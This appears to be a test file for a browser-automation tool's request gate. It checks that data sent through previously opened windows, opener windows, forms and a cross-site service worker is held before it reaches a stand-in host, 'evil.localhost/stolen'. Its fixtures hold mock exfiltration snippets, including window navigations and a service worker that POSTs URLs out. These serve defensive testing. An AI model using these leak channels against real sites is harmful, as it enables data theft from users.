// Windows that existed before an action, in a real Chromium: what an action sends through them is held as in its own
// tab.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { ActionReport, DomTool, Observation, RequestGate } from '../../js-glue/tool/index.js';
import { recordAt, stringAt } from '../../js-glue/tool/base/narrow.js';
import { theControl } from '../support/text_view.js';
import { eventually } from '../support/waiting.js';
import { useHeldSite } from './support/held_site.js';
import { dataOf, within } from './support/opening.js';

const kOther = 'http://evil.localhost:{{port}}';
const kPage = (inside: string): string => `<title>Shop</title><h1>Shop</h1>${inside}`;
const go = (script: string): string => `<button onclick="${script}">Go</button>`;
const opens = (inside: string): string =>
  kPage(`<button onclick="w = window.open('/own', 'own', 'width=300,height=300')">Open</button>${inside}`);

const kPages: Readonly<Record<string, string>> = {
  '/own': kPage('<p>Own</p>'),
  '/location': opens(go(`w.location = '${kOther}/stolen'`)),
  '/named': opens(go(`window.open('${kOther}/stolen', 'own')`)),
  '/link': opens(`<a href="${kOther}/stolen" target=own>Go</a>`),
  '/form': opens('<form method=post action="/stolen" target=own><input name=a value=b><button>Go</button></form>'),
  '/redirect': opens(go("w.location = '/away'")),
  '/served': opens(go(`w.location = '${kOther}/stolen?served'`)),
  '/served_tab': opens(go(`window.open('${kOther}/stolen?served')`)),
  '/opener': kPage(`<button onclick="window.open('/child')">Open</button>`),
  '/child': kPage(go(`opener.location = '${kOther}/stolen'`)),
  '/frames': opens(go("window.open('/framed')")),
  '/framed': kPage(`<iframe src="${kOther}/ad"></iframe>`),
  '/register': `<title>Other</title><script>navigator.serviceWorker.register('/worker.js')
    .then(() => navigator.serviceWorker.ready).then(() => document.body.append('served'))</script><body>`,
};
/** Of another site: it sends the requests that it is told to. */
const kWorker = `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
onfetch = (event) => { if (event.request.url.endsWith('?served'))
  event.respondWith(fetch('/stolen', { method: 'POST', body: event.request.url }).then(() => new Response('served'))); };`;

const held = useHeldSite({
  pages: kPages,
  scripts: { '/worker.js': kWorker },
  recorded: ['/stolen', '/ad'],
  answer: { body: '<h1>Came</h1>' },
  otherHost: 'evil.localhost',
});
const { asked } = held;
const wasAsked = (one: string): boolean => asked.includes(one);

class Gate implements RequestGate {
  readonly newTabs = { openSites: ['home.test'], closedSites: [], holdsChanges: true };
  readonly places: string[] = [];

  decide({ event, where }: Parameters<RequestGate['decide']>[0]): ReturnType<RequestGate['decide']> {
    const { pathname, host } = new URL(stringAt(recordAt(event, 'request'), 'url') ?? '');
    this.places.push(`${where} ${pathname}`);
    return pathname === '/stolen' ? { send: false, words: `GET ${host}${pathname}` } : { send: true };
  }
}

async function pathsOfTabs(): Promise<string[]> {
  return (await held.browser.connection.tabs()).map(({ url }) => (URL.canParse(url) ? new URL(url).pathname : url));
}

async function press(tool: DomTool, name: RegExp, gate?: RequestGate): Promise<ActionReport> {
  const { content } = dataOf(await tool.execute({ action: 'get_dom' })) as Observation;
  const { id } = theControl(String(content), name);
  return dataOf(
    await tool.execute({ action: 'click', nodeId: id }, gate === undefined ? {} : { gate }),
  ) as ActionReport;
}

/** Opens the page, presses "Open" under a gate, and closes the remaining tabs. */
async function withWindow(path: string, run: (tool: DomTool, opened: string) => Promise<void>): Promise<void> {
  asked.length = 0;
  const { connection } = held.browser;
  const before = new Set((await connection.tabs()).map(({ targetId }) => targetId));
  const tool = await connection.newTab(`http://home.test:${held.site.port}${path}`);
  try {
    await within(
      60_000,
      (async () => {
        const known = new Set((await connection.tabs()).map(({ targetId }) => targetId));
        await press(tool, /^Open$/, new Gate());
        const opened = await eventually('the window is there', async () =>
          (await connection.tabs()).find(({ targetId, url }) => !known.has(targetId) && /own|child/.test(url)),
        );
        await run(tool, opened.targetId);
      })(),
    );
  } finally {
    await tool.close();
    const opened = (await connection.tabs()).filter(({ targetId }) => !before.has(targetId));
    for (const { targetId } of opened) await connection.closeTab(targetId);
  }
}

for (const path of ['/location', '/named', '/link', '/form', '/redirect']) {
  test(`a window that the page opened by an earlier action is held: ${path.slice(1)}`, async () => {
    await withWindow(path, async (tool) => {
      const report = await press(tool, /^Go$/, new Gate());
      assert.ok(
        report.observed.events.some((event) => /^not sent: /.test(event)),
        JSON.stringify(report),
      );
      assert.deepEqual(asked, []);
      assert.ok((await pathsOfTabs()).includes('/own'), 'the window stays as it was');
      await press(tool, /^Go$/);
      await eventually('nothing is held any more', () => asked.length === 1);
    });
  });
}

test('the window that opened the page is held', async () => {
  await withWindow('/opener', async (_tool, opened) => {
    const child = await held.browser.connection.open(opened);
    const report = await press(child, /^Go$/, new Gate());
    assert.match(report.observed.events.join('\n'), /not sent: /);
    assert.deepEqual(asked, []);
    assert.ok((await pathsOfTabs()).includes('/opener'));
    await press(child, /^Go$/);
    await eventually('nothing is held any more', () => asked.length === 1);
    await child.close();
  });
});

for (const path of ['/served', '/served_tab']) {
  test(`the service worker of another site is asked for nothing: ${path.slice(1)}`, async () => {
    const other = await held.browser.connection.newTab(`http://evil.localhost:${held.site.port}/register`);
    dataOf(await other.execute({ action: 'wait', until: 'text', text: 'served' }));
    await other.close();
    await withWindow(path, async (tool) => {
      const report = await press(tool, /^Go$/, new Gate());
      assert.match(report.observed.events.join('\n'), /not sent: /);
      assert.deepEqual(asked, []);
      await press(tool, /^Go$/);
      await eventually('its worker has sent it', () => wasAsked('POST evil.localhost/stolen'));
    });
  });
}

test('frames that a new tab brings along are told as frames', async () => {
  await withWindow('/frames', async (tool) => {
    const gate = new Gate();
    await press(tool, /^Go$/, gate);
    await eventually('the frame is there', () => wasAsked('GET evil.localhost/ad'));
    assert.ok(gate.places.includes('tab /framed'), gate.places.join());
    assert.ok(!gate.places.includes('tab /ad'), gate.places.join());
  });
});
